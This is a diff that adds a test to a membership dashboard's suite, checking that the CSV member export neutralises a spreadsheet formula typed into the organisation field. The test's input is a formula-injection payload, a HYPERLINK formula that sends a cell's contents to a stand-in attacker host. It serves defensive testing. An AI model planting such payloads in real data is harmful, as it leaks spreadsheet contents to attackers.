@@ -292,3 +292,14 @@ async def test_a_staff_group_that_became_a_supergroup_is_named_on_the_overview(b
         assert f"The Telegram group {old} became a supergroup with the id {new}" in overview
         assert "SAFEGUARDING_TELEGRAM_CHAT_ID" in overview
         await admin.close()
+
+
+async def test_the_members_export_keeps_a_typed_formula_as_text(backend):
+    async with dashboard(backend) as board:
+        formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+        member = await board.member("MD", organisation=formula)
+        editor = await board.sign_in(EDITOR)
+        export = await editor.get("/admin/members.csv")
+        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export.text))}
+        assert rows[str(member)]["organisation"] == "'" + formula
+        await editor.close()
